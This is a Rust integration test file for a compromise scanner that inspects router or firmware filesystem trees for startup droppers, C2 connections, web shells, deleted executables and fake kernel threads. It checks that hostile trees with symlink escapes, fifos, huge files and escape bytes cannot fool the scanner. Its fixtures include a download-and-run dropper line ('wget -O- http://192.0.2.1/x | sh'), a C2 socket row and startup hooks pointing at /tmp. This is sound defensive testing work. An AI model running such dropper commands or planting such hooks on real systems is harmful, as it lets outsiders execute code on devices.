//! Looks at trees that an enemy made: nothing hangs, leads out, breaks a line of a report or is passed over in silence.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, clippy::print_stderr, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::fmt::Write;

use scan::{Kernel, Log, Outcome, Tree, clean, command, run};
use serde_json::Value;

/// A line that is found wherever it is read.
const DROPPER: &str = "wget -O- http://192.0.2.1/x | sh\n";
/// It stands in what lies outside of a tree.
const SECRET: &str = "gatewatch-secret";

/// Looks at a tree in every format, with and without openat2(2), and returns what was found, which must be the same.
#[track_caller]
fn look(tree: &Tree) -> Outcome {
    let [today, old] = [Kernel::Today, Kernel::Old].map(|kernel| look_on(kernel, tree));
    assert_eq!((&today.findings, &today.checks), (&old.findings, &old.checks), "without openat2");
    assert_eq!(today.status, old.status);
    today
}

fn look_on(kernel: Kernel, tree: &Tree) -> Outcome {
    let scan = || {
        let mut command = command(kernel);
        command
            .arg("--root")
            .arg(tree.path())
            .arg("--intel")
            .arg(scan::intel("live.gwi"))
            .arg(scan::UNSIGNED);
        command
    };
    let log = Log::new();
    let json = run(scan().args(["-v", "--format", "json"]).arg(log.option()));
    let text = run(scan().arg("-v"));
    assert_eq!(json.status, text.status);
    for output in [&json.stdout, &text.stdout] {
        assert!(!clean(output).contains(SECRET), "{}", clean(output));
    }
    let outcome = Outcome::of(json);
    let shown = |line: &&str| {
        *line == "in no incident:" || line.starts_with(' ') || line.contains(": ") || line.contains('(')
    };
    assert_eq!(clean(&text.stdout).lines().find(|line| !shown(line)), None, "a line of its own making");

    let lines = log.lines();
    for line in &lines {
        assert!(line.iter().all(|byte| (b' '..=b'~').contains(byte)), "{}", String::from_utf8_lossy(line));
        assert!(!String::from_utf8_lossy(line).contains(SECRET));
        assert!(line.len() <= 24 + 220, "{}", String::from_utf8_lossy(line));
    }
    assert_eq!(
        lines.len(),
        outcome.incidents.len() + outcome.findings.len().min(24) + 1,
        "one line an incident, one a finding of one check, and the last"
    );
    outcome
}

/// A file outside of every tree that would be a finding if it were read.
fn outside() -> Tree {
    Tree::new()
        .file("file", format!("wget -O- http://192.0.2.1/{SECRET} | sh\n"))
        .link("x/rc.local", "../file")
}

#[test]
fn startup_files_that_are_none() {
    let outside = outside();
    let absolute = format!("{}/file", outside.path().display());
    let relative = format!("../../../../../../../..{absolute}");
    let rc = "etc/rc.local";
    let nothing = "/etc/rc.local: a link that leads to nothing in this tree";
    let circle = "/etc/rc.local: links lead in a circle";
    for (tree, why) in [
        (Tree::new().fifo(rc), "/etc/rc.local: a named pipe"),
        (Tree::new().fifo("etc/fifo").link(rc, "fifo"), "/etc/rc.local: a named pipe"),
        (Tree::new().dir(rc), "/etc/rc.local: a directory"),
        (Tree::new().link(rc, "/etc/shadow"), nothing),
        (Tree::new().link(rc, "../../../etc/shadow"), nothing),
        (Tree::new().link(rc, &absolute), nothing),
        (Tree::new().link(rc, relative), nothing),
        (Tree::new().link(rc, "rc.local"), circle),
        (Tree::new().link(rc, "a").link("etc/a", "b").link("etc/b", "../etc/a"), circle),
        (Tree::new().file(rc, "").link("etc/init.d", "init.d"), "/etc/init.d: links lead in a circle"),
        (Tree::new().file(rc, "").file("etc/init.d", "x"), "/etc/init.d: not a directory"),
    ] {
        let outcome = look(&tree);
        let looked = ["startup-dropper", "startup-volatile"].map(|check| outcome.looked(check));
        assert_eq!(looked, [("no", why); 2]);
        // That a link leads to /tmp may be told, but nothing that lies there.
        assert_eq!(outcome.with("check", "startup-dropper"), [&Value::Null; 0]);
        assert_eq!(outcome.status, if outcome.findings.is_empty() { 3 } else { 1 });
    }
}

#[test]
fn a_directory_of_startup_files_that_leads_out() {
    let outside = outside();
    let place = outside.path().join("x").display().to_string();
    for (name, target) in [("init.d", &place), ("crontabs", &format!("../../../../../..{place}"))] {
        let tree = Tree::healthy().link(format!("etc/{name}"), target);
        let outcome = look(&tree);
        let why = format!("/etc/{name}: a link that leads to nothing in this tree");
        assert_eq!(outcome.looked("startup-dropper"), ("partly", why.as_str()));
        assert_eq!((outcome.findings.len(), outcome.status), (0, 3));
    }
    // The whole of it.
    let tree = Tree::new().link("etc", outside.path().join("x").as_os_str().as_encoded_bytes());
    let outcome = look(&tree);
    let (looked, why) = outcome.looked("startup-dropper");
    assert!(looked == "no" && why.starts_with("/etc: "), "{looked}: {why}");
}

#[test]
fn links_that_stay_inside_are_followed() {
    let tree = Tree::new()
        .file("rom/rc", DROPPER)
        .link("etc/rc.local", "/rom/rc")
        .link("etc/rc.d/S1", "../../../../../rom/rc")
        .link("etc/init.d", "/../../rom");
    let outcome = look(&tree);
    assert_eq!(outcome.short(), ["startup-dropper infected 1"], "one file, however it is reached");
    assert_eq!((outcome.looked("startup-dropper"), outcome.status), (("yes", ""), 2));
}

#[test]
fn large_files_are_read_to_a_limit_that_is_told() {
    const SIZE: u64 = 100 * 1024 * 1024;
    let only = format!("/etc/rc.local: only the first 1048576 of {SIZE} bytes were read");
    let mut text = format!("exit 0\n{DROPPER}");
    while text.len() < SIZE as usize / 2 {
        text.push_str("# a line that says nothing at all, again and again\n");
    }
    text.push_str(DROPPER);
    text.extend(std::iter::repeat_n('\n', SIZE as usize - text.len()));
    for tree in [
        Tree::new().file("etc/rc.local", text),
        Tree::new().sparse("etc/rc.local", &format!("exit 0\n{DROPPER}"), SIZE),
    ] {
        let outcome = look(&tree);
        assert_eq!(outcome.short(), ["startup-dropper infected 2"]);
        assert_eq!(outcome.looked("startup-dropper"), ("partly", only.as_str()));
        assert_eq!(outcome.status, 2);
    }
}

#[test]
fn many_large_files_end_the_reading_and_not_the_scan() {
    let mut tree = Tree::new();
    for i in 0..40 {
        tree = tree.sparse(&format!("etc/init.d/x{i}"), "#!/bin/sh\n", 1024 * 1024);
    }
    let outcome = look(&tree);
    let (looked, why) = outcome.looked("startup-dropper");
    assert_eq!((looked, outcome.status), ("partly", 3));
    assert!(why.contains("only the first 0 of 1048576 bytes were read; and 7 more"), "{why}");
}

#[test]
fn a_long_line_does_not_hide_the_next() {
    let long = "x".repeat(64 * 1024);
    let outcome = look(&Tree::new().file("etc/rc.local", format!("{long}\n{DROPPER}")));
    assert_eq!(outcome.short(), ["startup-dropper infected 2"]);
    let why = "/etc/rc.local: line 1 is too long or too deep to be taken apart whole";
    assert_eq!(outcome.looked("startup-dropper"), ("partly", why));

    let outcome = look(&Tree::new().file("etc/rc.local", format!("exit 0\n{long}")));
    let why = "/etc/rc.local: line 2 is too long or too deep to be taken apart whole";
    assert_eq!((outcome.looked("startup-dropper"), outcome.status), (("partly", why), 3));
}

#[test]
fn a_crowd_of_files() {
    let crowd =
        |count: u32| (0..count).fold(Tree::new(), |tree, i| tree.file(format!("etc/init.d/{i}"), "exit 0\n"));
    let outcome = look(&crowd(4000).file("etc/rc.d/S99z", DROPPER));
    assert_eq!(
        (outcome.short(), &outcome.summary["files"]),
        (vec!["startup-dropper infected 1".into()], &4001.into())
    );
    assert_eq!(outcome.looked("startup-dropper"), ("yes", ""));
    let outcome = look_on(Kernel::Today, &crowd(4097));
    assert!(outcome.looked("startup-dropper").1.contains("more than 4096 startup files"), "{outcome:?}");
    assert_eq!((&outcome.summary["files"], outcome.status), (&4097.into(), 3));
}

/// Bytes that an enemy may want to see in a report: they clear a screen, colour, end lines and strings, hide and turn.
const BYTES: &[u8] = b"\x1b[2J\x1b]0;x\x07\n\r\t\"\\\xff\xc2\x9b31m\x7f\xe2\x80\xae\",\"pid\":1}";
/// The same, as they may be shown.
const SHOWN: &str = r#"\x1b[2J\x1b]0;x\x07\x0a\x0d\x09"\\\xff\xc2\x9b31m\x7f\xe2\x80\xae","pid":1}"#;

/// So many hostile bytes.
fn bytes(count: usize) -> Vec<u8> {
    BYTES.iter().copied().cycle().take(count).collect()
}

#[test]
fn names_of_startup_files() {
    let long = bytes(250);
    let tree = Tree::new()
        .file([b"etc/init.d/", BYTES].concat(), DROPPER)
        .file([b"etc/hotplug.d/", &long[..], b"/", &long, b"/", &long].concat(), DROPPER)
        .fifo("etc/rc.local")
        .link("etc/rc.d/S10x", [b"/tmp/", &bytes(4000)[..]].concat().as_slice())
        .link([b"etc/rcS.d/", &long[..]].concat(), &long[..240]);
    let outcome = look(&tree);
    let droppers = outcome.with("check", "startup-dropper");
    assert_eq!(droppers.len(), 2, "{outcome:?}");
    assert!(droppers.iter().any(|row| row["path"] == format!("/etc/init.d/{SHOWN}")), "{droppers:?}");
    let links = outcome.with("check", "startup-volatile");
    assert_eq!(links.len(), 1, "{links:?}");
    assert!(links[0]["detail"].as_str().unwrap().contains(SHOWN), "{links:?}");
    assert_eq!(outcome.looked("startup-dropper"), ("partly", "/etc/rc.local: a named pipe; and 1 more"));

    let tree = Tree::healthy().link([b"etc/init.d/", &long[..]].concat(), b"nothing");
    let outcome = look(&tree);
    assert!(outcome.looked("startup-dropper").1.starts_with(&format!("/etc/init.d/{SHOWN}")), "{outcome:?}");
}

#[test]
fn lines_of_startup_files() {
    let line = [b"wget -O- '", BYTES, b"' | sh\n"].concat();
    let outcome = look(&Tree::new().file("etc/rc.local", line));
    assert_eq!(outcome.short(), ["startup-dropper infected 1"], "{outcome:?}");
}

#[test]
fn names_of_processes() {
    let long = [b"/tmp/", &bytes(4090)[..]].concat();
    let tree = Tree::healthy()
        .process(123, BYTES, &[&long[..4085], b" (deleted)"].concat(), &bytes(3000))
        .process(124, b"x) S 1 (y", &long, b"[kworker/0:1]\0")
        .process(125, b"", b"", b"")
        .process(126, &bytes(2000), b"/usr/bin/x", b"")
        .process(4_000_000, b"[kthreadd]", b"/\n (deleted)", b"\n\0\x1b");
    let outcome = look(&tree);
    let of =
        |pid: u32| outcome.with("pid", pid).iter().map(|row| row["check"].to_string()).collect::<Vec<_>>();
    assert_eq!(of(123), ["\"exe-deleted\"", "\"name-random\""]);
    let found = &outcome.with("pid", 123)[0];
    assert_eq!(found["name"], SHOWN);
    assert!(found["path"].as_str().unwrap().starts_with(&format!("/tmp/{SHOWN}")), "{found}");
    assert!(!found["path"].as_str().unwrap().contains("deleted"), "{found}");
    assert_eq!(of(124), ["\"exe-volatile\"", "\"fake-kthread\""]);
    assert_eq!(of(4_000_000), ["\"exe-deleted\"", "\"fake-kthread\"", "\"name-random\""]);
    assert_eq!(outcome.status, 2);
}

#[test]
fn processes_that_are_none() {
    let rest = b"exit 0\n";
    for (tree, why) in [
        (Tree::healthy().fifo("proc/9/stat"), "/proc: process 9 could not be read: a named pipe"),
        (
            Tree::healthy().link("proc/9/stat", "/etc/rc.local"),
            "/proc: process 9 could not be read: links lead in a circle",
        ),
        (
            Tree::healthy().file("proc/9/stat", bytes(100_000)),
            "/proc: process 9 could not be read: not understood",
        ),
        (Tree::healthy().file("proc/9", rest), "/proc: process 9 could not be read: not a directory"),
        (Tree::healthy().file("proc", rest), "/proc: not a directory"),
        (Tree::healthy().link("proc", "proc"), "/proc: links lead in a circle"),
        (Tree::healthy().link("proc/9", "/proc/1"), "/proc: process 9 could not be read: not a directory"),
    ] {
        let outcome = look(&tree);
        assert_eq!(outcome.looked("exe-deleted"), ("no", why), "{:?}", outcome.checks);
        assert_eq!((outcome.findings.len(), outcome.status), (0, 3));
    }
    let fifo = Tree::healthy().process(8, b"x", b"/usr/bin/x", b"").process(9, b"x", b"/usr/bin/x", b"");
    std::fs::remove_file(fifo.path().join("proc/9/cmdline")).unwrap();
    let outcome = look(&fifo.fifo("proc/9/cmdline"));
    let why = "/proc: process 9 could not be read: a named pipe";
    assert_eq!((outcome.looked("fake-kthread"), outcome.status), (("partly", why), 3));
}

#[test]
fn a_proc_that_leads_out() {
    // The tree's own process has an exe and descriptors that lead to the machine outside.
    let tree = Tree::healthy().link("proc", "/proc");
    assert_eq!(look(&tree).looked("exe-deleted").0, "no");
    let outside = outside();
    let tree = Tree::healthy()
        .process(9, b"x", b"/file (deleted)", b"")
        .link("proc/9/root", outside.path().as_os_str().as_encoded_bytes());
    let outcome = look(&tree);
    let detail = outcome.findings[0]["detail"].as_str().unwrap();
    assert!(detail.ends_with("its file has been removed"), "the file outside was seen: {detail}");
}

/// A recording of a machine with this `/proc/net/tcp`.
fn recording(about: &str, tcp: &[u8]) -> Tree {
    Tree::new()
        .file("about.toml", about)
        .file("root/etc/rc.local", "exit 0\n")
        .process_in("root/", 9, b"x", b"/usr/bin/x", b"x\0")
        .file("root/proc/net/udp", HEADING)
        .file("root/proc/net/tcp", tcp)
}

/// How the kernel begins each of its tables of sockets.
const HEADING: &str = "  sl  local_address rem_address   st\n";
const C2_ROW: &str =
    "   1: 0F02000A:9C40 076433C6:01BB 01 00000000:00000000 02:000A 00000000  1000        0 48234 1 0\n";

#[test]
fn rows_of_proc_net_that_are_garbage() {
    let mut rows = String::from(HEADING);
    for odd in
        ["", "0: x:1 y:2 01", "\u{1b}[2J", "0: 0:0 0:0 01", "1: 0F02000A:9C40 076433C6:1BBBB 01 0 0 0 0 0 7"]
    {
        writeln!(rows, "{odd}").unwrap();
    }
    let little = "byte_order = \"little\"\n";
    let (long, whole) = ("7".repeat(5000), &rows[..]);
    let outcome = look(&recording(little, format!("{whole}{long}\n{C2_ROW}").as_bytes()));
    assert_eq!(outcome.short(), ["c2-address infected"], "what can be read is");
    assert_eq!(outcome.looked("c2-address"), ("partly", "proc/net/tcp: 6 rows not understood"));
    let outcome = look(&recording(little, &bytes(100_000)));
    assert_eq!((outcome.looked("c2-address").0, outcome.status), ("no", 3));
    // The other byte order is another address.
    assert_eq!(look(&recording("byte_order = \"big\"", format!("{HEADING}{C2_ROW}").as_bytes())).status, 0);
}

#[test]
fn a_proc_net_without_its_byte_order() {
    let why = "about.toml: its byte_order is needed to read /proc/net of a recording";
    let outcome = look(&recording("model = \"x\"\n", format!("{HEADING}{C2_ROW}").as_bytes()));
    assert_eq!((outcome.looked("c2-address"), outcome.status), (("no", why), 3));
    let tree = Tree::healthy()
        .process(9, b"x", b"/usr/bin/x", b"")
        .file("proc/net/tcp", format!("{HEADING}{C2_ROW}"));
    let outcome = look(&tree);
    assert_eq!((outcome.looked("c2-address"), outcome.status), (("no", why), 3));
}

#[test]
fn an_about_toml_that_cannot_be() {
    let outcome = look(&recording("\nbyte_order = \"pdp\"\n", b""));
    assert_eq!(outcome.status, 3);
    assert!(outcome.stderr.contains("about.toml:2: write byte_order = \"big\" or \"little\""), "{outcome:?}");
    assert!(outcome.checks.iter().all(|check| check["looked"] == "no"), "{outcome:?}");
    // An enemy's, in a system: it hides nothing.
    let planted =
        Tree::new().file("etc/rc.local", DROPPER).file("about.toml", "byte_order = \"pdp\"").dir("root");
    assert_eq!(look(&planted).short(), ["startup-dropper infected 1"]);
    let outside = outside();
    let tree = Tree::new()
        .fifo("about.toml")
        .file("root/etc/rc.local", DROPPER)
        .link("x", outside.path().as_os_str().as_encoded_bytes());
    assert_eq!(look(&tree).status, 3);
}

/// A key, by a number.
fn key(number: u32) -> String {
    format!("ssh-rsa AAAA{number:08} x\n")
}

#[test]
fn lists_of_users_and_keys_that_cost_much() {
    let same = "a:x:0:0::/:\n".repeat(512);
    let group = format!("wheel:x:0:{}\n", "a,".repeat(500)).repeat(250);
    let tree = Tree::healthy().file("etc/passwd", same).file("etc/shadow", "a:\n".repeat(80_000));
    let start = std::time::Instant::now();
    let outcome = look_on(Kernel::Today, &tree.file("etc/group", group));
    assert_eq!(outcome.looked("account-odd"), ("yes", ""));
    let keys = (0..10_000).map(key).collect::<String>();
    let tree = Tree::healthy().file("etc/passwd", "root:x:0:0::/root:/bin/sh\n").file("rom/etc/x", "");
    let tree = tree.file("root/.ssh/authorized_keys", &keys).file("rom/root/.ssh/authorized_keys", keys);
    let outcome = look_on(Kernel::Today, &tree);
    assert!(outcome.looked("ssh-key").1.contains("more than 256 keys"), "{outcome:?}");
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

#[test]
fn lists_of_users_and_keys_that_are_none() {
    let tree = || Tree::healthy().file("etc/passwd", "ann:x:5:5::/:/bin/sh\n");
    let outcome = look(&tree().fifo("etc/group"));
    assert_eq!(outcome.looked("account-odd"), ("partly", "/etc/group: a named pipe"));
    let outcome = look(&tree().link("etc/ssh/authorized_keys.d", "authorized_keys.d"));
    let why = "/etc/ssh/authorized_keys.d: links lead in a circle";
    assert_eq!(outcome.looked("ssh-key"), ("partly", why));
}

#[test]
fn settings_that_lead_on() {
    let script = "dhcp-script=/tmp/x\n";
    for tree in [
        // A file that a file names, in a circle; a directory of which other rows take some files only.
        Tree::healthy()
            .file("etc/dnsmasq.conf", "conf-dir=/etc/a/\nconf-file=/etc/dnsmasq.conf\n")
            .file("etc/a/x", "conf-dir=/etc/a\nconf-file=/etc/b\n")
            .file("etc/b", script),
        Tree::healthy().file("etc/dnsmasq.conf", "conf-dir=/tmp\n").file("tmp/z", script),
    ] {
        let outcome = look(&tree);
        assert_eq!(outcome.with("check", "config-include").len(), 1, "{outcome:?}");
        assert_eq!(outcome.looked("config-include"), ("yes", ""));
    }
    let many = (0..20).fold(String::new(), |text, i| text + &format!("conf-file=/etc/f{i}\n"));
    let outcome = look(&Tree::healthy().file("etc/dnsmasq.conf", many));
    assert!(outcome.looked("config-include").1.contains("8 further ones"), "{outcome:?}");
    // What stands before the limit counts.
    let large = format!("config dnsmasq\n\toption dhcpscript '/tmp/x'\n{}", "#\n".repeat(600_000));
    let outcome = look(&Tree::healthy().file("etc/config/dhcp", large));
    assert_eq!(outcome.with("check", "config-include").len(), 1, "{outcome:?}");
    let why = "/etc/config/dhcp: only the first 1048576 bytes were read";
    assert_eq!(outcome.looked("config-include"), ("partly", why));
}

#[test]
fn what_the_kernel_is_told_in_long_lines() {
    let tree = Tree::healthy().file("proc/sys/kernel/core_pattern", format!("|{}\n", "/x".repeat(2048)));
    let outcome = look(&tree);
    let why = "/proc/sys/kernel/core_pattern: too large to be read whole";
    assert_eq!(outcome.looked("kernel-helper"), ("partly", why));
    let line = format!("x=1\nkernel.modprobe = {}/tmp/x\n", " ".repeat(1100));
    let outcome = look(&Tree::healthy().file("etc/sysctl.conf", line));
    assert_eq!(outcome.looked("kernel-helper"), ("no", "/etc/sysctl.conf: line 2 is too long"));
}

#[test]
fn files_with_holes_cost_no_more_than_is_said() {
    const SIZE: u64 = 10 << 30;
    let start = std::time::Instant::now();
    let tree = ["etc/init.d/a", "bin/busybox", "bin/ls", "www/a.php"].iter().fold(
        Tree::new().file("rom/etc/x", ""),
        |tree, name| {
            let page = format!("<?php {}", "#".repeat(5000));
            tree.sparse(name, &page, SIZE).sparse(&format!("rom/{name}"), &page, SIZE)
        },
    );
    let outcome = look_on(Kernel::Today, &tree);
    let large = "too large to be read whole";
    assert!(outcome.looked("startup-changed").1.ends_with(&format!("/etc/init.d/a: {large}")), "{outcome:?}");
    assert_eq!(outcome.looked("tool-replaced").1, format!("/bin/busybox: {large}; and 1 more"));
    assert_eq!(outcome.looked("web-shell"), ("partly", format!("/www/a.php: {large}").as_str()));
    let tree = (0..100).fold(Tree::healthy(), |tree, i| {
        tree.sparse(&format!("www/{i}.php"), &format!("<?php {}", "#".repeat(5000)), 8 << 20)
    });
    let outcome = look_on(Kernel::Today, &tree);
    assert!(
        outcome.looked("web-shell").1.contains("268435456 bytes of pages were read before"),
        "{outcome:?}"
    );
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
}

#[test]
fn an_image_whose_files_are_gone_and_one_that_leads_out() {
    let tree = (0..1000).fold(Tree::healthy().dir("usr/lib/opkg/info"), |tree, i| {
        let tree = tree.file(format!("rom/etc/init.d/f{i}"), "exit 0\n");
        tree.file(format!("rom/usr/lib/opkg/info/p{i}.list"), "/x\n")
    });
    let start = std::time::Instant::now();
    let outcome = look_on(Kernel::Today, &tree);
    assert_eq!(outcome.with("check", "startup-removed").len(), 1000);
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
    // The image's own would know the line that is there now.
    let line = "::respawn:/tmp/e\n";
    let tree = Tree::new().file("etc/inittab", line).file("tmp/i", line).link("rom/etc/inittab", "/tmp/i");
    let outcome = look(&tree);
    assert_eq!(outcome.with("check", "startup-added").len(), 0, "nothing is known of it: {outcome:?}");
    assert!(outcome.findings.iter().any(|row| row["path"] == "/etc/inittab"), "{outcome:?}");
}

#[test]
fn modules_among_more_files_than_are_looked_at() {
    let tree = (0..20_100).fold(Tree::healthy(), |tree, i| tree.file(format!("etc/junk/{i}"), ""));
    let tree = tree
        .file("proc/modules", "a 1 0 - Live 0x0\nb 1 0 - Live 0x0\nc 1 0 - Live 0x0\n")
        .file("proc/sys/kernel/osrelease", "5.15.1\n")
        .file("lib/modules/5.15.1/a.ko", "")
        .file("lib/modules/5.15.1/b.ko", "");
    let outcome = look_on(Kernel::Today, &tree);
    assert_eq!(outcome.with("name", "c").len(), 1, "{outcome:?}");
    assert!(outcome.looked("kernel-module").1.contains("more than 20000 files"), "{outcome:?}");
}
